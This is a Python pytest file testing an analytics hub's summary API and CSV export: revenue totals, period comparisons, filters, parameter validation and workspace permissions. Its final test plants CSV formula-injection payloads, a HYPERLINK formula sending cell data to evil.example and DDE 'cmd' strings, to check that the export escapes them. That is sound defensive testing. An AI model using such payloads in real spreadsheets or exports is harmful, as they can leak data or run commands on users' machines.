"""The Analytics Hub's JSON API and CSV export over HTTP, on each backend."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient

from comerix.auth.models import EngineKeyKind
from comerix.auth.roles import Role
from comerix.clock import FixedClock
from comerix.db import Database
from tests.factories import Member, Shop, make_engine_key, make_member, send_sales_day


@pytest.fixture
def shop(client: TestClient, db: Database, clock: FixedClock) -> dict[str, Any]:
    """A workspace with a paid goal, one chat and three sales: 0.10 and 0.20 EUR in the chat, 5 USD later."""
    with db.transaction() as session:
        admin = make_member(session, clock.now())
        key = make_engine_key(session, admin.workspace, clock.now(), EngineKeyKind.SECRET)
    day = (clock.now() - timedelta(days=3)).replace(hour=10)
    send_sales_day(client, admin, key, day)
    return {"admin": admin, "day": day.date()}


def summary(client: TestClient, who: Member, **params: str) -> Any:
    return client.get("/api/v1/reports/summary", params=params, headers=who.headers)


def test_the_summary_adds_up(client: TestClient, shop: dict[str, Any]) -> None:
    day = shop["day"]
    answer = summary(
        client, shop["admin"], **{"from": str(day - timedelta(days=1)), "to": str(day + timedelta(days=2))}
    )
    assert answer.status_code == 200, answer.text
    body = answer.json()
    assert (body["timezone"], body["base_currency"]) == ("Europe/Berlin", "EUR")
    totals = body["totals"]
    assert (totals["conversations"], totals["conversions"], totals["engagements"], totals["custom"]) == (
        1,
        3,
        1,
        0,
    )
    assert (totals["converting_conversations"], totals["conversion_rate"]) == (1, 1.0)
    assert totals["revenue"] == [{"currency": "EUR", "value": "0.30"}, {"currency": "USD", "value": "5.00"}]
    # USD 5.00 on Friday 30 October 2026: EUR 4.475474 at the ECB's 1.1172 dollars a euro
    assert totals["base_revenue"] == [{"currency": "EUR", "value": "4.775474"}]
    assert totals["chat_driven_base_revenue"] == [{"currency": "EUR", "value": "0.30"}]
    assert totals["unattributed_base_revenue"] == [{"currency": "EUR", "value": "4.475474"}]
    assert [(g["goal"], g["outcomes"], g["conversations"]) for g in body["by_goal"]] == [
        ("sale", 3, 1),
        ("reply", 1, 1),
    ]
    assert [(f["flow"], f["outcomes"], f["conversations"]) for f in body["by_flow"]] == [
        ("sales-bot", 3, 1),
        (None, 1, 0),
    ]
    assert sum(p["conversions"] for p in body["series"]) == totals["conversions"]
    assert len(body["series"]) == 4


def test_compare_previous_adds_the_period_just_before_as_long(
    client: TestClient, shop: dict[str, Any]
) -> None:
    """The two days after the chat, compared with the two days that end with it: the previous period's
    totals, series and goals are those of the summary asked for those days directly, with the same filters."""
    day, admin = shop["day"], shop["admin"]
    after = {"from": str(day + timedelta(days=1)), "to": str(day + timedelta(days=2))}
    before = {"from": str(day - timedelta(days=1)), "to": str(day)}
    for filters in ({}, {"goal": "sale"}, {"attribution": "conversation"}):
        answer = summary(client, admin, **after, **filters, compare="previous")
        assert answer.status_code == 200, answer.text
        body = answer.json()
        direct = summary(client, admin, **before, **filters).json()
        assert body["previous"] == {
            "from": before["from"],
            "to": before["to"],
            "totals": direct["totals"],
            "series": direct["series"],
            "by_goal": direct["by_goal"],
        }
        assert body["totals"] == summary(client, admin, **after, **filters).json()["totals"]
    compared = summary(client, admin, **after, compare="previous").json()
    assert (compared["totals"]["conversions"], compared["previous"]["totals"]["conversions"]) == (1, 2)
    assert "previous" not in summary(client, admin, **after).json()


def test_compare_takes_only_previous(client: TestClient, shop: dict[str, Any]) -> None:
    day = str(shop["day"])
    answer = summary(client, shop["admin"], **{"from": day, "to": day}, compare="last_year")
    assert answer.status_code == 422
    assert [d["field"] for d in answer.json()["error"]["details"]] == ["compare"]


def test_filters_narrow_every_figure(client: TestClient, shop: dict[str, Any]) -> None:
    day = shop["day"]
    rng = {"from": str(day), "to": str(day + timedelta(days=1))}
    only_chat = summary(client, shop["admin"], **rng, attribution="conversation").json()["totals"]
    assert (only_chat["conversions"], only_chat["base_revenue"]) == (
        2,
        [{"currency": "EUR", "value": "0.30"}],
    )
    engaged = summary(client, shop["admin"], **rng, kind="engagement").json()["totals"]
    assert (engaged["conversions"], engaged["engagements"], engaged["converting_conversations"]) == (0, 1, 0)
    other_flow = summary(client, shop["admin"], **rng, flow="support").json()["totals"]
    assert (other_flow["conversations"], other_flow["conversions"]) == (0, 0)
    monthly = summary(client, shop["admin"], **rng, interval="month", goal="sale").json()
    assert monthly["series"][0]["period"] == str(day.replace(day=1))
    assert sum(point["conversions"] for point in monthly["series"]) == 3


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "2026-13-01", "to": "2026-11-02"}, "from"),
        ({"from": "2026-11-05", "to": "2026-11-01"}, "to"),
        ({"to": "2026-11-01"}, "from"),
        ({"from": "2026-11-01", "to": "2026-11-02", "interval": "year"}, "interval"),
        ({"from": "2026-11-01", "to": "2026-11-02", "kind": "sale"}, "kind"),
        ({"from": "2026-11-01", "to": "2026-11-02", "attribution": "maybe"}, "attribution"),
        ({"from": "2026-11-01", "to": "2026-11-02", "goal": "nope"}, "goal"),
        ({"from": "20261101", "to": "2026-11-02"}, "from"),
        ({"from": "0001-01-01", "to": "0001-01-02"}, "from"),
        ({"from": "9999-12-30", "to": "9999-12-31"}, "to"),
    ],
)
def test_bad_parameters_are_named(
    client: TestClient, shop: dict[str, Any], params: dict[str, str], field: str
) -> None:
    answer = summary(client, shop["admin"], **params)
    assert answer.status_code == 422
    assert field in [d["field"] for d in answer.json()["error"]["details"]]


def test_the_csv_export_lists_every_outcome(client: TestClient, shop: dict[str, Any]) -> None:
    day = shop["day"]
    answer = client.get(
        "/api/v1/reports/outcomes.csv",
        headers=shop["admin"].headers,
        params={"from": str(day - timedelta(days=1)), "to": str(day + timedelta(days=2))},
    )
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [(r["goal"], r["value"], r["currency"], r["attribution"]) for r in rows] == [
        ("reply", "", "", "conversation"),
        ("sale", "0.10", "EUR", "conversation"),
        ("sale", "0.20", "EUR", "conversation"),
        ("sale", "5", "USD", "none"),
    ]
    filtered = client.get(
        "/api/v1/reports/outcomes.csv",
        headers=shop["admin"].headers,
        params={"from": str(day), "to": str(day), "goal": "reply"},
    )
    assert len(list(csv.DictReader(io.StringIO(filtered.text)))) == 1


def test_reports_need_the_analytics_permission_and_stay_in_the_workspace(
    client: TestClient, shop: dict[str, Any], db: Database, clock: FixedClock
) -> None:
    with db.transaction() as session:
        viewer = make_member(session, clock.now(), role=Role.VIEWER, workspace=shop["admin"].workspace)
        stranger = make_member(session, clock.now())
    day = shop["day"]
    rng = {"from": str(day - timedelta(days=1)), "to": str(day + timedelta(days=2))}
    assert summary(client, viewer, **rng).json()["totals"]["conversions"] == 3
    assert summary(client, stranger, **rng).json()["totals"]["conversions"] == 0
    assert summary(client, stranger, **rng, goal="sale").status_code == 422
    assert client.get("/api/v1/reports/outcomes.csv", params=rng).status_code == 401


def test_the_csv_export_never_starts_a_formula(client: TestClient, db: Database, clock: FixedClock) -> None:
    """Ids sent with the widget's public key and goal names typed by designers reach the spreadsheet
    as text (a leading `'`); amounts stay numbers, a negative one included."""
    shop = Shop(client, db, clock)
    shop.goal(
        code="sale",
        name="=1+2",
        kind="conversion",
        trigger_event="sale",
        value_mode="from_property",
        value_property="total",
        currency_property="currency",
    )
    hostile = [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Open")',
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
        ),
        ("-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"),
    ]
    shop.send(
        "/events",
        {
            "events": [
                {
                    "name": "sale",
                    "timestamp": shop.at(1, hours),
                    "conversation_id": conversation,
                    "contact_id": contact,
                    "flow_id": flow,
                    "properties": {"total": "-12.50", "currency": "EUR"},
                }
                for hours, (conversation, contact, flow) in enumerate(hostile)
            ]
        },
    )
    day = (clock.now() - timedelta(days=11)).date()
    answer = client.get(
        "/api/v1/reports/outcomes.csv",
        headers=shop.admin.headers,
        params={"from": str(day - timedelta(days=1)), "to": str(day + timedelta(days=1))},
    )
    assert answer.status_code == 200, answer.text
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert [(r["conversation_id"], r["contact_id"], r["flow_id"]) for r in rows] == [
        tuple("'" + cell for cell in ids) for ids in hostile
    ]
    assert {(r["goal_name"], r["value"], r["base_value"]) for r in rows} == {("'=1+2", "-12.50", "-12.50")}
